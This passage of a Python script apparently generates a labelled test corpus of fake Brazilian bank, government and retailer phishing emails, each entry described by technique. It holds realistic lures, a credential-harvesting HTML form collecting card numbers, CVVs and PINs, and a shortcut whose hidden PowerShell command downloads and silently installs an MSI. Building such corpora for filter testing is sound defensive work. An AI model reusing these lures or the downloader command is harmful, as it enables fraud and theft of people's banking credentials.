             f'<h2 style="font-size:21px;color:#222222;margin:0 0 18px 0;">{tt}</h2>\n{ps}{b}'
             f'{sg}'
             f'</td></tr>\n<tr><td style="padding:18px 32px;font-size:11px;color:#999999;border-top:1px solid #eeeeee;">'
             f'{foot}</td></tr>\n</table>\n{fill}\n</td></tr></table>')
    return html_doc(inner, "pt-BR" if m["lang"] == "pt" else "en", title=re.sub("<[^>]+>", "", title))


def img_kit(m, img, link, alt, extra="", filler=60, fstyle=0):
    """Image-only lure: one hotlinked banner inside a link, a line of small print, invisible filler text."""
    inner = (f'<center><a href="{link}" target="_blank"><img src="{img}" width="600" alt="{alt}" '
             f'style="display:block;max-width:100%;border:0;"></a>\n<p style="font-family:Arial;font-size:12px;'
             f'color:#777777;">{extra}</p>\n{hidden(m, filler, fstyle)}\n</center>')
    return html_doc(inner, "pt-BR" if m["lang"] == "pt" else "en")


def track(base, target, seed, key="url"):
    from urllib.parse import quote
    return f"{base}{alnum(seed, 22)}?{key}={quote(target, safe='')}"


def brand(m, logo, title, paras, btn=None, color="#333333", links=(), foot="", pre="", pixel=None, width=600):
    """A legitimate brand notification / newsletter: preheader, logo, content, CTA, footer links, pixel."""
    ps = "".join(f'<tr><td style="padding:0 32px 14px 32px;font-size:15px;line-height:23px;color:#3c3c3c;">{p}</td></tr>\n'
                 for p in paras)
    b = ""
    if btn:
        b = (f'<tr><td align="center" style="padding:10px 32px 24px 32px;"><a href="{btn[1]}" style="background:{color};'
             f'color:#ffffff;display:inline-block;padding:12px 28px;border-radius:6px;font-weight:bold;'
             f'text-decoration:none;">{btn[0]}</a></td></tr>\n')
    fl = " &nbsp;|&nbsp; ".join(f'<a href="{u}" style="color:#888888;">{t}</a>' for t, u in links)
    px = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0;">' if pixel else ""
    pre_html = (f'<div style="display:none;max-height:0;overflow:hidden;">{pre}&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;'
                f'&#847;&zwnj;&nbsp;</div>\n' if pre else "")
    inner = (f'{pre_html}<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">\n'
             f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" style="background:#ffffff;'
             f'font-family:Helvetica,Arial,sans-serif;">\n<tr><td style="padding:24px 32px;"><img src="{logo}" '
             f'height="32" alt="{html.escape(m["frm"][0])}" style="border:0;"></td></tr>\n<tr><td style="padding:0 32px 16px '
             f'32px;font-size:22px;font-weight:bold;color:#1a1a1a;">{title}</td></tr>\n{ps}{b}'
             f'<tr><td style="padding:20px 32px;font-size:11px;line-height:16px;color:#888888;background:#f7f7f7;">'
             f'{foot}<br><br>{fl}</td></tr>\n</table>\n{px}\n</td></tr></table>')
    return html_doc(inner, "pt-BR" if m["lang"] == "pt" else "en", title=re.sub("<[^>]+>", "", title))


def alt(m, h, txt=None, enc="quoted-printable"):
    return mime.Multi("alternative", bnd(m, 1), [mime.text(txt or to_text(h), "plain", enc),
                                                  mime.text(h, "html", enc)])


def only_html(h, enc="quoted-printable"):
    return mime.text(h, "html", enc)


def mixed(m, first, *atts):
    return mime.Multi("mixed", bnd(m, 0), [first, *atts])


def related(m, h, cid, png, name="image001.png"):
    img = mime.Leaf("image/png", png, "base64", f'; name="{name}"', f'inline; filename="{name}"', [f"Content-ID: <{cid}>"])
    return mime.Multi("related", bnd(m, 2), [alt(m, h), img], '\n\ttype="multipart/alternative";')


def plain(txt, enc="quoted-printable"):
    return mime.text(txt, "plain", enc)


def pdf_att(name, lines, link=None, title=""):
    rect = (56, 430, 300, 470)
    data = files.pdf(lines, (link, rect) if link else None, title)
    return mime.attachment("application/pdf", name, data)


def html_att(name, h):
    return mime.Leaf("text/html", h.encode(), "base64", f'; name="{name}"', f'attachment; filename="{name}"')


# --------------------------------------------------------------------------------------------
# the messages

MESSAGES: list[dict] = []


def msg(slug, cat, kind, lang, rcpt, date, frm, subj, route, body, desc, **kw):
    MESSAGES.append(dict(slug=slug, cat=cat, kind=kind, lang=lang, rcpt=rcpt, date=date, frm=frm, subj=subj,
                         route=route, body=body, desc=desc, **kw))



def google_url(target, seed):
    from urllib.parse import quote
    return f"https://www.google.com/url?q={quote(target, safe=':/')}&sa=D&sntz=1&usg=AOvVaw{b64(seed, 22, True)}"


def bing_url(target, seed):
    u = base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    return (f"https://www.bing.com/ck/a?!&&p={hx(seed, 64)}JmltdHM9MTcxNjQyMjQwMA&ptn=3&ver=2&hsh=3&fclid="
            f"{guid(seed)}&u=a1{u}&ntb=1")


def amp(target):
    return "https://www.google.com/amp/s/" + target.split("://", 1)[1]


NR_PT = "Este e-mail foi enviado automaticamente. Por favor, não responda."
PIX = ("00020126580014br.gov.bcb.pix0136{k}5204000053039865406{v}5802BR5925{n}6009SAO PAULO62070503***6304{c}")


def pix(seed, value, name):
    k = guid(seed)
    n = name[:25].ljust(25)
    return PIX.format(k=k, v=value, n=n, c=hx(seed + "crc", 4).upper())


# ---- Portuguese attacks -----------------------------------------------------------------------

msg("bradesco-chave-seguranca", "phishing", "phish", "pt", "marcos", "2024-02-06 09:14:37 -0300",
    ("Bradesco", "atendimento@centralvx-notifica.shop"),
    "Bradesco: Sua Chave de Segurança será desativada em 24h - Protocolo 88213",
    via_vps("centralvx-notifica.shop", "45.148.121.77", "mail.centralvx-notifica.shop"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/9HqzV1r/bradesco-logo-branco.png", "Prezado(a) cliente Bradesco,",
        ["Identificamos que a sua <b>Chave de Segurança (Token)</b> está desatualizada e será desativada "
         "automaticamente em <b>24 horas</b>.",
         "Para evitar o bloqueio do acesso ao Internet Banking e ao aplicativo, realize a sincronização do "
         "dispositivo pelo link abaixo. O procedimento leva menos de 2 minutos.",
         "Protocolo: <b>88213-0402-BR</b> &nbsp;|&nbsp; Data limite: <b>07/02/2024</b>"],
        ("SINCRONIZAR CHAVE", google_url("https://bradesco-chave-seguranca-app.web.app/?cliente="
                                         "marcos.almeida.rj&p=88213", "brad1")),
        "#cc092f", NR_PT + "<br>&copy; 2024 Banco Bradesco S.A.", filler=90, fstyle=0)),
    "Bradesco token-expiry lure mass-mailed with PHPMailer from a throw-away .shop domain, invisible filler words, "
    "button through a google.com/url redirect to a Firebase web.app credential page.", scl=1)
msg("itau-cartao-bloqueado", "phishing", "phish", "pt", "julia", "2024-03-19 18:02:11 -0300",
    ("Itaú Unibanco", "cartoes@itau-cartoes-digital.com"),
    "Seu cartão Itaú foi bloqueado preventivamente",
    via_vps("itau-cartoes-digital.com", "185.225.74.19", "srv1.itau-cartoes-digital.com", mailer="kit",
            dkim="itau-cartoes-digital.com", envelope="bounce@itau-cartoes-digital.com"),
    lambda m: alt(m, kit(
        m, "https://itau-cartoes-digital.com/assets/img/logo-itau.png", "Compra não reconhecida bloqueada",
        ["Olá, cliente Itaú.",
         "Bloqueamos preventivamente o seu cartão final <b>4417</b> após uma tentativa de compra de "
         "<b>R$ 2.389,90</b> em <b>MAGAZINE ONLINE*PAG</b> às 17:41.",
         "Se você não reconhece esta compra, confirme seus dados para cancelar a transação e desbloquear o cartão. "
         "Sem a confirmação, o cartão será cancelado definitivamente em até 12 horas."],
        ("Não reconheço esta compra", "https://itau-desbloqueio-cartao.azurewebsites.net/acesso/?c=4417&t="
         + alnum("itau", 24)), "#ec7000", "Itaú Unibanco S.A. - Praça Alfredo Egydio de Souza Aranha, 100 - São Paulo"
        "<br>" + NR_PT)),
    "Itaú blocked-card lure from a lookalike domain that signs its own mail (DKIM and DMARC pass), link to an "
    "azurewebsites.net page harvesting agency/account and card data.", auth="pass", scl=5)
msg("caixa-fgts-saque", "phishing", "phish", "pt", "sandra", "2024-04-23 07:48:52 -0300",
    ("CAIXA ECONOMICA FEDERAL", "rgomes.contabilidade@hotmail.com"),
    "FGTS: Saque extraordinário liberado - consulte seu saldo",
    via_hotmail("rgomes.contabilidade@hotmail.com"),
    lambda m: alt(m, html_doc(
        '<div style="font-family:Calibri,Arial,sans-serif;font-size:12pt;color:#000000">'
        '<p><img src="https://i.postimg.cc/3x7Lq2Vb/caixa-fgts.png" width="520" alt="CAIXA FGTS"></p>'
        "<p>Prezado(a) trabalhador(a),</p><p>Informamos que você possui valores do <b>FGTS</b> disponíveis para "
        "<b>saque extraordinário</b> conforme MP 2024. O valor pode ser creditado em qualquer conta em até 2 dias "
        "úteis.</p><p>Valor disponível: <b>R$ 1.874,32</b></p>"
        '<p><a href="https://saque-fgts-extraordinario-2024.blogspot.com/?m=1">CONSULTAR E SOLICITAR SAQUE</a></p>'
        "<p>Prazo para solicitação: 30/04/2024.</p><p>Atenciosamente,<br>CAIXA - Fundo de Garantia do Tempo de "
        "Serviço</p></div>")),
    "FGTS extraordinary-withdrawal lure sent from a hijacked Hotmail account (SPF/DKIM/DMARC pass) with a forged "
    "CAIXA display name, Bcc mass mailing, link to a blogspot page.", to="rgomes.contabilidade@hotmail.com",
    auth="pass", scl=1)
msg("bb-modulo-seguranca", "phishing", "phish", "pt", "julia", "2024-05-14 22:31:04 -0300",
    ("Banco do Brasil", "comunicado@bb.com.br"),
    "BB Informa: Atualização obrigatória do módulo de segurança",
    via_vps("bb.com.br", "193.42.33.118", "vmi1738221.contaboserver.net", spf="fail", envelope="comunicado@bb.com.br"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/LYtJ3sP/bb-logo.png", "Atualização do Módulo de Segurança",
        ["Prezado cliente,",
         "Conforme Resolução BCB nº 4.893, todos os clientes devem atualizar o <b>módulo de segurança</b> e o "
         "cadastro do dispositivo até <b>15/05/2024</b>.",
         "A não atualização acarretará a suspensão temporária das transações via Pix, TED e pagamentos."],
        ("ATUALIZAR AGORA", "https://bit.ly/3Vq7KdZ"), "#fcfc30",
        "Banco do Brasil S.A. - SAC 0800 729 0722<br>" + NR_PT, filler=50, fstyle=1)),
    "Direct spoof of bb.com.br from a Contabo VPS (SPF fail, DMARC fail, compauth=fail reason=000) asking for a "
    "'security module update', bit.ly link to the kit.", auth="spoof-reject", scl=5)
msg("santander-esfera-pontos", "phishing", "phish", "pt", "sandra", "2024-06-03 11:05:40 -0300",
    ("Santander Esfera", "noreply@petshopamigofiel.com.br"),
    "Seus 18.450 pontos Esfera expiram hoje",
    via_esp("149.72.154.231", "o1.ptr4821.petshopamigofiel.com.br",
            "bounces+38112094-a1f3-sandra.pereira.sp=outlook.com.br@em8841.petshopamigofiel.com.br",
            [("petshopamigofiel.com.br", "s1"), ("sendgrid.info", "smtpapi")]),
    lambda m: mixed(m, alt(m, html_doc(
        '<div style="font-family:Arial;font-size:14px"><p>Olá, cliente Santander!</p><p>Você possui <b>18.450 pontos'
        "</b> no programa Esfera que <b>expiram hoje</b>. Veja no comunicado em anexo como trocar seus pontos por "
        "produtos ou crédito na fatura.</p><p>Equipe Santander Esfera</p></div>")),
        pdf_att("Comunicado_Esfera_Santander.pdf",
                ["Santander Esfera - Comunicado de Expiracao de Pontos", "",
                 "Cliente: SANDRA PEREIRA", "Saldo de pontos: 18.450", "Validade: hoje, 03/06/2024", "",
                 "Resgate seus pontos antes do vencimento clicando no botao abaixo.",
                 "Apos o prazo os pontos serao cancelados sem possibilidade de estorno."],
                "https://pub-7c1e93a0d4f84b6c9a2e55f0b1d3c8e2.r2.dev/esfera/resgate.html?id=" + alnum("esf", 16),
                "Comunicado Esfera")),
    "Santander Esfera points-expiry lure sent through a compromised pet-shop SendGrid account (passes), PDF "
    "attachment whose button links to an r2.dev page.", auth="pass", scl=1,
    hdrs=[f"X-SG-EID: {b64('sgeid', 120)}", f"X-Entity-ID: {b64('sgent', 22)}=="])

NU_FORM = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Nubank - Aumento de Limite</title>
<style>body{{font-family:Arial;background:#820ad1;margin:0}}.c{{background:#fff;max-width:420px;margin:40px auto;
padding:28px;border-radius:10px}}input{{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #ccc;
border-radius:6px}}button{{background:#820ad1;color:#fff;border:0;padding:13px;width:100%;border-radius:22px;
font-size:16px}}</style></head><body><div class="c">
<img src="https://i.ibb.co/tYV2L0k/nubank-roxo.png" width="90" alt="Nu">
<h3>Confirme seus dados para liberar seu novo limite de R$ 7.500,00</h3>
<form action="https://clinicasorrisobelo.com.br/wp-includes/js/nu/envio.php" method="POST">
<input type="hidden" name="ref" value="{ref}">
<label>CPF</label><input name="cpf" placeholder="000.000.000-00" required>
<label>Número do cartão</label><input name="cc" maxlength="19" required>
<label>Validade</label><input name="val" placeholder="MM/AA" required>
<label>CVV</label><input name="cvv" maxlength="4" required>
<label>Senha de 4 dígitos do cartão</label><input name="senha" type="password" maxlength="4" required>
<button type="submit">Confirmar e liberar limite</button></form>
<p style="font-size:11px;color:#888">Nu Pagamentos S.A. - Instituição de Pagamento. CNPJ 18.236.120/0001-58</p>
</div></body></html>
"""

msg("nubank-html-anexo", "phishing", "phish", "pt", "julia", "2024-06-27 15:22:19 -0300",
    ("Nubank", "contato@nuvip-limite.online"),
    "Parabéns! Seu limite foi aumentado para R$ 7.500,00",
    via_vps("nuvip-limite.online", "91.92.247.36", "nuvip-limite.online", spf="none"),
    lambda m: mixed(m, plain("Olá!\n\nVocê foi selecionado(a) para um aumento de limite no seu cartão Nubank.\n"
                             "Abra o comprovante em anexo e confirme seus dados para liberar o novo limite "
                             "ainda hoje.\n\nEquipe Nubank\n"),
                    html_att("Nubank_Aumento_Limite.html", NU_FORM.format(ref=alnum("nuref", 12)))),
    "Nubank limit-increase lure from a domain with no SPF/DMARC (compauth fail), HTML attachment with a form "
    "posting CPF, card number, CVV and card PIN to a compromised WordPress site.", auth="none", scl=5)

INTER_T = "https://ipfs.io/ipfs/bafybei" + alnum("inter", 52).lower() + "/inter-acesso.html#sandra.pereira.sp@outlook.com.br"

msg("inter-novo-dispositivo", "phishing", "phish", "pt", "sandra", "2024-07-09 06:55:03 -0300",
    ("Banco Inter", "seguranca@alertadigital-ix.click"),
    "Inter: acesso bloqueado em novo dispositivo",
    via_vps("alertadigital-ix.click", "146.70.87.142", "mx1.alertadigital-ix.click", dkim="alertadigital-ix.click",
            mailer="kit"),
    lambda m: only_html(kit(
        m, "https://i.postimg.cc/Qd3tMbzK/inter-logo.png", "Tentativa de acesso bloqueada",
        ["Detectamos um acesso à sua conta Inter a partir de um novo dispositivo (Samsung SM-A546E, Recife/PE).",
         "Por segurança, suas transações Pix foram limitadas. Se foi você, valide o dispositivo. Se não foi, "
         "cancele o acesso imediatamente."],
        ("Validar meu acesso", bing_url(INTER_T, "inter")), "#ff7a00", "Banco Inter S.A.", zwt=True, filler=30,
        fstyle=2)),
    "Banco Inter new-device lure from a throw-away .click domain (own DKIM, bestguesspass), zero-width characters "
    "inside every word, link through a bing.com/ck/a redirect to an IPFS-hosted page.", auth="bestdkim", scl=1)
msg("picpay-cashback", "phishing", "phish", "pt", "marcos", "2024-08-12 12:40:55 -0300",
    ("PicPay", "cashback@premios-picpay-br.com"),
    "Você tem R$ 187,40 de cashback para resgatar 💚",
    via_esp("54.240.27.61", "a27-61.smtp-out.amazonses.com",
            f"0100019144{hx('ppses', 6)}-{guid('ppses')}-000000@amazonses.com",
            [("premios-picpay-br.com", "x7k2m9q3"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")]),
    lambda m: alt(m, kit(
        m, "https://premios-picpay-br.com/img/picpay.png", "Seu cashback está esperando!",
        ["Oi! Você acumulou <b>R$ 187,40</b> em cashback nas suas últimas compras.",
         "O valor fica disponível para resgate via Pix somente até <b>hoje às 23h59</b>."],
        ("Resgatar cashback", amp("https://picpay-cashback-resgate.pages.dev/r/" + alnum("pp", 18))), "#11c76f",
        "PicPay Instituição de Pagamento S.A.")),
    "PicPay cashback lure from a lookalike domain sending through Amazon SES (DKIM and DMARC pass), link through "
    "a google.com/amp/s/ redirect to a pages.dev site.", auth="pass", scl=1)
msg("mercadopago-pix-pendente", "phishing", "phish", "pt", "julia", "2024-09-02 20:13:27 -0300",
    ("Mercado Pago", "atendimento.mercadopago.br@gmail.com"),
    "Pix de R$ 950,00 pendente de confirmação",
    via_gmail("atendimento.mercadopago.br@gmail.com"),
    lambda m: alt(m, '<div dir="ltr"><div><img src="https://i.ibb.co/Wf1Jx7c/mercadopago.png" width="180"></div>'
                  "<div><br></div><div>Olá,</div><div><br></div><div>Você recebeu uma transferência Pix de <b>R$ 950,00"
                  "</b> que está retida para análise de segurança.</div><div>Para liberar o valor na sua conta, "
                  'confirme seus dados em: <a href="https://sites.google.com/view/mercadopago-estorno-pix/inicio">'
                  "https://sites.google.com/view/mercadopago-estorno-pix/inicio</a></div><div><br></div>"
                  "<div>O valor será devolvido ao remetente em 24 horas.</div><div><br></div><div>Mercado Pago</div>"
                  "</div>\n"),
    "Pending-Pix lure written in Gmail by a freemail account with a 'Mercado Pago' display name (passes "
    "authentication for gmail.com), link to a sites.google.com page.", auth="pass", scl=5)

PIX_CORREIOS = pix("correios1", "67.82", "PAGAMENTOS DIGITAIS LTDA")

msg("correios-taxa-pix", "phishing", "phish", "pt", "sandra", "2024-10-08 10:26:48 -0300",
    ("Correios", "naoresponda@correios-rastreio-encomendas.com"),
    "Objeto NL482913675BR aguardando pagamento da taxa de importação",
    via_vps("correios-rastreio-encomendas.com", "172.86.124.53", "mail.correios-rastreio-encomendas.com",
            mailer="kit", dkim="correios-rastreio-encomendas.com"),
    lambda m: alt(m, kit(
        m, "https://correios-rastreio-encomendas.com/static/correios-logo.png",
        "Sua encomenda internacional foi tributada",
        ["Objeto: <b>NL482913675BR</b><br>Origem: Shenzhen - China<br>Status: <b>Aguardando pagamento</b>",
         "Valor do imposto de importação e despacho postal: <b>R$ 67,82</b>. Após o pagamento o objeto será "
         "liberado para entrega em até 3 dias úteis.",
         "Pague com Pix copia e cola:<br><span style=\"font-family:monospace;font-size:11px;word-break:break-all\">"
         + PIX_CORREIOS + "</span>",
         "Caso o pagamento não seja realizado em 48 horas, o objeto será devolvido ao remetente."],
        ("Pagar taxa", "https://correios-rastreio-encomendas.com/objetos/NL482913675BR/pagamento"), "#00416b",
        "Correios - Empresa Brasileira de Correios e Telégrafos")),
    "Correios import-tax lure from a lookalike domain signing its own mail, asks for R$ 67,82 by Pix copy-paste "
    "code to a third-party receiver and links to the lookalike payment page.", auth="pass", scl=1)

PIX_QR = pix("correios2", "54.90", "MDRT SOLUCOES")

msg("correios-qr-devolucao", "phishing", "phish", "pt", "marcos", "2024-11-19 08:03:15 -0300",
    ("Correios - Minhas Importações", "noreply@envio-mdrt9.store"),
    "Última notificação: seu objeto será devolvido ao remetente",
    via_vps("envio-mdrt9.store", "5.181.86.207", "envio-mdrt9.store"),
    lambda m: related(m, kit(
        m, "https://i.ibb.co/h8Zk4Xw/correios.png", "Última notificação",
        ["Seu objeto <b>LB391227405HK</b> está retido na unidade de fiscalização aduaneira em Curitiba/PR.",
         "Para evitar a devolução, pague a taxa de despacho de <b>R$ 54,90</b> escaneando o QR Code abaixo no app do "
         "seu banco:",
         '<img src="cid:pixqr01" width="200" height="200" alt="QR Code Pix">',
         "Prazo: 20/11/2024."], None, "#ffd400", "Correios", filler=40), "pixqr01", files.qr_png(PIX_QR), "pix.png"),
    "Correios return-to-sender lure from a throw-away .store domain with an inline Pix QR code (no link at all) "
    "paying a fake customs fee to a third party.", scl=1)

LNK = files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                         "/c powershell -w hidden -ep bypass -c \"iwr https://cdn-receita.brazilsouth.cloudapp.azure.com/"
                         "d/irpf.msi -OutFile $env:TEMP\\irpf.msi; msiexec /i $env:TEMP\\irpf.msi /qn\"")
msg("receita-cpf-irregular", "malware", "phish", "pt", "julia", "2024-12-10 14:17:33 -0300",
    ("Receita Federal do Brasil", "notificacao@receitafederal-regularize.info"),
    "Intimação: CPF com pendência de regularização - Processo 10880.721944/2024-18",
    via_vps("receitafederal-regularize.info", "104.168.133.40", "hwsrv-1128734.hostwindsdns.com",
            envelope="notificacao@receitafederal-regularize.info"),
    lambda m: mixed(m, alt(m, kit(
        m, "https://i.ibb.co/1G4kFfz/gov-br.png", "Intimação Fiscal Eletrônica",
        ["Contribuinte,",
         "Consta em nossos sistemas pendência na Declaração de Imposto de Renda Pessoa Física vinculada ao seu CPF. "
         "O não atendimento desta intimação no prazo de 5 dias implicará a suspensão do CPF.",
         "O termo de intimação segue anexo (arquivo compactado). Abra o documento para consultar os detalhes do "
         "processo."], None, "#1351b4", "Ministério da Fazenda - Secretaria Especial da Receita Federal do Brasil")),
        mime.attachment("application/zip", "Intimacao_CPF_10880721944.zip",
                        files.zip_archive([("Intimacao_CPF_10880721944.pdf.lnk", LNK)]))),
    "Receita Federal 'CPF irregular' notice from a lookalike domain with a ZIP holding a .pdf.lnk shortcut that "
    "runs PowerShell to download and install an MSI (banking-trojan dropper pattern).", scl=5)
msg("nfe-danfe-download", "malware", "phish", "pt", "marcos", "2025-01-14 09:41:26 -0300",
    ("Financeiro - Distribuidora Ponto Forte", "financeiro@distribuidorapontoforte.com.br"),
    "NF-e 000.352.118 - XML e DANFE disponíveis",
    via_host("distribuidorapontoforte.com.br", "162.241.60.214", "br920.hostgator.com.br", "financeiro"),
    lambda m: alt(m, html_doc(
        '<div style="font-family:Verdana;font-size:13px"><p>Prezado cliente,</p><p>Segue o link para download do '
        "XML e DANFE da Nota Fiscal Eletrônica nº <b>000.352.118</b>, série 1, emitida em 14/01/2025.</p>"
        '<p><a href="https://www.dropbox.com/scl/fi/' + alnum("nfe", 21).lower() + '/DANFE_NFe_000352118.zip?rlkey='
        + alnum("nferl", 25).lower() + '&dl=1">Baixar XML e DANFE (NF-e 000352118)</a></p>'
        "<p>Chave de acesso: 3525 0112 4451 2200 0198 5500 1000 3521 1810 0042 8861</p>"
        "<p>Atenciosamente,<br>Departamento Financeiro<br>Distribuidora Ponto Forte Ltda</p></div>")),
    "Fake NF-e/DANFE notice sent from a compromised distributor mailbox (SPF/DKIM/DMARC pass) with a Dropbox "
    "direct-download link to a ZIP, the classic delivery of Brazilian banking trojans.", auth="pass", scl=1)


msg("serasa-limpa-nome", "phishing", "phish", "pt", "sandra", "2025-02-04 13:12:44 -0300",
    ("Serasa Limpa Nome", "acordo@ofertas-quitacao24.online"),
    "Feirão Limpa Nome: sua dívida de R$ 3.482,19 por apenas R$ 98,90",
    via_vps("ofertas-quitacao24.online", "45.95.169.212", "ofertas-quitacao24.online"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/Xk7tQ9P/serasa-limpa-nome.png", "Sua chance de limpar o nome chegou!",
        [sprinkle(m, "Olá! Encontramos uma oferta exclusiva para a sua dívida com o Banco Pan. O valor original de "
                     "<b>R$ 3.482,19</b> pode ser quitado hoje por <b>R$ 98,90</b> à vista no Pix. O desconto de 97% "
                     "é válido somente durante o Feirão. Após o pagamento seu nome é limpo em até 5 dias úteis. ")],
        ("Ver minha oferta", "https://cutt.ly/5wRk9TqP"), "#e80070",
        "Serasa S.A. - Av. das Nações Unidas, 14.401 - São Paulo/SP", filler=70, fstyle=1)),
    "Serasa 'Feirão Limpa Nome' debt-settlement lure from a throw-away .online domain, invisible words sprinkled "
    "between sentences, cutt.ly shortener to a fake Pix-payment page.", scl=1)
msg("detran-multa", "phishing", "phish", "pt", "julia", "2025-03-11 07:33:09 -0300",
    ("DETRAN-SP | Notificação de Autuação", "notificacao@detran-autuacoes.top"),
    "Notificação de Autuação AIT 1F8847213 - pague com 40% de desconto",
    via_vps("detran-autuacoes.top", "138.197.71.80", "detran-autuacoes.top", mailer="kit"),
    lambda m: alt(m, kit(
        m, "https://i.ibb.co/q1Fz7Cc/detran-sp.png", "Notificação de Autuação de Infração de Trânsito",
        ["Consta uma infração de trânsito registrada para veículo vinculado ao seu CPF:",
         "Auto de Infração: <b>1F8847213</b><br>Infração: Transitar em velocidade superior à máxima permitida em até "
         "20%<br>Local: Rod. dos Bandeirantes, km 38<br>Valor: R$ 130,16",
         "Pagando até <b>14/03/2025</b> pelo SNE você tem <b>40% de desconto</b>. Consulte a foto do radar e a guia "
         "de pagamento:"],
        ("Consultar autuação", "https://detran-sp-consulta-multas.azurewebsites.net/consulta/?ait=1F8847213&uf=SP"),
        "#1b3b6f", "Departamento Estadual de Trânsito de São Paulo")),
    "Detran traffic-fine lure (40% discount for quick payment) from a .top domain, link to an azurewebsites.net "
    "page collecting plate, RENAVAM and card/Pix payment.", scl=5)
msg("govbr-valores-receber", "phishing", "phish", "pt", "marcos", "2025-03-27 16:47:51 -0300",
    ("gov.br - Banco Central", "lucas.ferreira.adv1988@gmail.com"),
    "Você possui valores a receber - Sistema de Valores a Receber (SVR)",
    via_gmail("lucas.ferreira.adv1988@gmail.com"),
    lambda m: alt(m, '<div dir="ltr"><img src="https://i.postimg.cc/Y0g8rnS1/govbr-svr.png" width="560" alt="gov.br">'
                  "<p>Prezado(a) cidadão(ã),</p><p>O Banco Central do Brasil identificou <b>valores esquecidos</b> "
                  "em seu nome no Sistema de Valores a Receber (SVR): <b>R$ 2.317,54</b>.</p>"
                  "<p>O resgate deve ser solicitado até 31/03/2025 utilizando sua conta gov.br nível prata ou ouro."
                  '</p><p><a href="https://svr-bcb-consulta.fragrant-sun-4f2a.workers.dev/?cpf=">Consultar e '
                  'resgatar valores</a></p><p style="color:#888;font-size:11px">Banco Central do Brasil - '
                  "SBS Quadra 3 Bloco B - Brasília/DF</p></div>\n"),
    "Banco Central 'valores a receber' lure sent from a hijacked Gmail account (passes) with a gov.br display "
    "name, link to a workers.dev page asking for gov.br credentials.", auth="pass", scl=1)
msg("mercadolivre-pesquisa", "phishing", "phish", "pt", "sandra", "2024-09-21 19:58:36 -0300",
    ("Mercado Livre", "pesquisa@ofertadodia-br.shop"),
    zw("Parabéns! Você foi selecionado para a pesquisa de satisfação Mercado Livre", "\u200c"),
    via_vps("ofertadodia-br.shop", "45.148.121.93", "vps-93.ofertadodia-br.shop"),
    lambda m: only_html(img_kit(
        m, "https://storage.googleapis.com/ml-pesquisa-2024/banner-kit-bosch.jpg",
        "https://storage.googleapis.com/ml-pesquisa-2024/index.html#" + alnum("mlp", 20),
        "Responda a pesquisa e ganhe um Kit de Ferramentas Bosch",
        "Para deixar de receber, <a href=\"https://storage.googleapis.com/ml-pesquisa-2024/sair.html\">clique aqui</a>.",
        filler=160, fstyle=0)),
    "Mercado Livre 'pesquisa de satisfação' prize lure: zero-width non-joiners in the subject, a single banner "
    "image hotlinked from storage.googleapis.com linking to a page there, 160 invisible filler words.", scl=1)
msg("magalu-airfryer", "phishing", "phish", "pt", "julia", "2024-11-29 21:04:17 -0300",
    ("Magalu Black Friday", "contato@lojavirtual-k9x.site"),
    "Sua Air Fryer Mondial está reservada - falta só o frete",
    via_vps("lojavirtual-k9x.site", "91.92.253.14", "lojavirtual-k9x.site", spf="softfail"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/kqL3Twr/magalu-bf.png", "Parabéns, cliente Magalu!",
        ["Você foi um dos 500 clientes sorteados na nossa pesquisa de Black Friday e ganhou uma "
         "<b>Air Fryer Mondial 4L</b>.",
         "Para receber, basta confirmar o endereço de entrega e pagar o frete de <b>R$ 19,90</b>."],
        ("Quero minha Air Fryer", "https://magalu-premios-2024.firebaseapp.com/pesquisa?id=" + alnum("mg", 14)),
        "#0086ff", "Magazine Luiza S.A.", filler=120, fstyle=2)),
    "Magalu Black-Friday prize lure ('pay only the shipping') from a throw-away .site domain with SPF softfail, "
    "hidden white 1px filler text, link to a firebaseapp.com page taking card data.", auth="none", scl=5)

SHOPEE_T = "https://shopee-sorteio-aniversario.blogspot.com/2025/03/ganhadores.html?u=" + alnum("shp", 10)

msg("shopee-sorteio", "phishing", "phish", "pt", "marcos", "2025-03-03 10:18:02 -0300",
    ("Shopee Brasil", "silvia.mramos@outlook.com.br"),
    "🎉 Shopee 3.3: você foi sorteado(a) para ganhar um iPhone 15",
    via_hotmail("silvia.mramos@outlook.com.br"),
    lambda m: alt(m, html_doc(
        '<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt">'
        f'<p><a href="{google_url(SHOPEE_T, "shp")}"><img src="https://i.postimg.cc/d1Hn3ZmB/shopee-33.png" '
        'width="560" alt="Shopee 3.3"></a></p><p>Olá! Seu e-mail foi sorteado na campanha de aniversário '
        "<b>Shopee 3.3</b>. Você ganhou um <b>iPhone 15 128GB</b>.</p><p>Responda 4 perguntas rápidas e informe o "
        f'endereço de entrega: <a href="{google_url(SHOPEE_T, "shp2")}">resgatar prêmio</a></p>'
        "<p>Equipe Shopee</p></div>")),
    "Shopee anniversary-draw lure sent from a hijacked outlook.com.br account (passes), Bcc-mailed, banner and "
    "link through google.com/url to a blogspot page.", to="silvia.mramos@outlook.com.br", auth="pass", scl=1)

SHEIN_T = "https://shein-presente-br.vercel.app/?c=" + alnum("shein", 12)

msg("shein-cartao-presente", "phishing", "phish", "pt", "sandra", "2025-05-06 12:27:45 -0300",
    ("SHEIN Brasil", "cupons@sheinbr-mimos.website"),
    "Você ganhou um cartão-presente SHEIN de R$ 500",
    via_vps("sheinbr-mimos.website", "5.181.86.44", "mail.sheinbr-mimos.website", dkim="sheinbr-mimos.website"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/B3pHq0d/shein-logo-preto.png", "Obrigado por comprar com a gente!",
        ["Como agradecimento, você recebeu um <b>cartão-presente de R$ 500</b> para usar em qualquer produto do app.",
         "Ative o seu cartão-presente até domingo. Basta responder nossa pesquisa de satisfação."],
        ("ATIVAR CARTÃO-PRESENTE", "https://www.youtube.com/redirect?event=comments&redir_token="
